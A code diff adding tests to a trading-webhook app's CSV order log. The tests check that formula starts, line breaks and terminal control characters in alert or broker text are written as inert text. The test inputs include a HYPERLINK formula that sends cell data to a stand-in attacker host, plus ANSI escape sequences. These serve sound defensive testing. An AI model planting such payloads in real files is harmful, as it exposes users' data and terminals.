@@ -9,10 +9,13 @@ import io
 import os
 import resource
 from pathlib import Path
+from typing import Any
 
+import attrs
 import pytest
-from helpers import refusing_writes
+from helpers import ClientFactory, alert, leg, refusing_writes, with_accounts
 
+from tvbridge.config import Config
 from tvbridge.models import LegResult, LegStatus
 from tvbridge.orderlog import COLUMNS, OrderLog
 
@@ -134,3 +137,91 @@ async def test_a_half_row_that_cannot_be_taken_back_is_ended_before_the_next_row
     assert after.startswith(b"\n")
     [row] = csv.DictReader(io.StringIO(after.decode().strip()), fieldnames=COLUMNS)
     assert (row["alert_id"], row["message"]) == ("A3", "alert 3, leg 1")
+
+
+TEXT_FIELDS = (
+    "account",
+    "broker",
+    "symbol",
+    "exchange",
+    "transaction",
+    "quantity",
+    "order_type",
+    "product_type",
+    "price",
+    "message",
+    "order_id",
+    "client_order_id",
+)
+"""Every text field of a result that reaches a cell; the alert's own text (symbol, message echoes) among them."""
+
+
+def text_result(text: str) -> LegResult:
+    changes: dict[str, Any] = dict.fromkeys(TEXT_FIELDS, text)
+    return attrs.evolve(result(1, 1), **changes)
+
+
+@pytest.mark.parametrize(
+    ("start", "shown"),
+    [("=", "="), ("+", "+"), ("-", "-"), ("@", "@"), ("\t", "\\t"), ("\r", "\\r")],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage return"],
+)
+async def test_every_formula_start_in_every_cell_is_written_as_text(tmp_path: Path, start: str, shown: str) -> None:
+    """OWASP's six formula starts, in every cell an alert or a broker can fill: each cell gets a leading `'`, so a
+    spreadsheet shows `=HYPERLINK(...)` instead of running it; the rest of the cell is kept (tab and CR as
+    visible escapes)."""
+    log = OrderLog(tmp_path / "orders.csv")
+    await log.open()
+    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    await log.append([text_result(text)], alert_id=f"{start}ID", alert_type=f"{start}TYPE")
+    await log.close()
+
+    [row] = rows(tmp_path / "orders.csv")
+    expected = f"'{shown}{text[1:]}"
+    assert {column: row[column] for column in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, expected)
+    assert (row["alert_id"], row["alert_type"]) == (f"'{shown}ID", f"'{shown}TYPE")
+
+
+async def test_line_breaks_and_control_characters_are_written_as_visible_escapes(tmp_path: Path) -> None:
+    """A symbol or broker message with line breaks, ESC sequences, NUL, DEL, C1 controls or Unicode line
+    separators stays on its row: `wc -l` and `splitlines()` count one line per row, the csv module reads the same
+    rows, and no control character but the row's own newline is in the file (a terminal running `tail -f` gets
+    no escape sequence)."""
+    nasty = "A\nB\r\nC\x1b[2J\x1b]0;pwned\x07D\x00E\x7fF\x85G\u2028H\u2029I\x0bJ\x0cK\x1cL"
+    shown = "A\\nB\\r\\nC\\x1b[2J\\x1b]0;pwned\\x07D\\x00E\\x7fF\\x85G\\u2028H\\u2029I\\x0bJ\\x0cK\\x1cL"
+    path = tmp_path / "orders.csv"
+    log = OrderLog(path)
+    await log.open()
+    await log.append([text_result(nasty), result(2, 1)], alert_id="A1", alert_type="multi_leg_order")
+    await log.append([result(3, 1)], alert_id="A2", alert_type="multi_leg_order")
+    await log.close()
+
+    raw = path.read_bytes()
+    assert raw.count(b"\n") == 4  # the header and three rows
+    text = raw.decode("utf-8")
+    assert len(text.splitlines()) == 4
+    assert all(char == "\n" or char.isprintable() for char in text)
+    found = rows(path)
+    assert [len(row) for row in found] == [len(COLUMNS)] * 3
+    assert (found[0]["symbol"], found[0]["message"]) == (shown, shown)
+    assert [row["symbol"] for row in found[1:]] == ["SYM2", "SYM3"]
+
+
+async def test_an_alerts_symbol_cannot_break_a_row_or_run_as_a_formula(
+    make_client: ClientFactory, config: Config
+) -> None:
+    """Through the real server: a symbol with a formula start, a line break and an ESC sequence, refused by the
+    broker with a message that echoes it, is one row whose symbol and message read as text."""
+    symbol = "@SUM(1+1)\n\x1b[2JEVIL"
+    config = with_accounts(config, {"s": {"broker": "scripted", "reject_symbols": [symbol]}})
+    client = await make_client(config)
+    response = await client.post("/webhook", json=alert(leg(symbol=symbol), leg(symbol="INFY", sort_order="2")))
+    assert response.status == 200
+    path = config.data_path("webhook_orders.csv")
+    text = path.read_text(encoding="utf-8")
+    assert len(text.splitlines()) == 3  # the header, the refused leg, the skipped one
+    assert "\x1b" not in text
+    first, second = rows(path)
+    assert first["symbol"] == "'@SUM(1+1)\\n\\x1b[2JEVIL"
+    assert first["message"] == "'@SUM(1+1)\\n\\x1b[2JEVIL is not tradeable here"
+    assert (first["status"], second["symbol"], second["status"]) == ("failed", "INFY", "skipped")
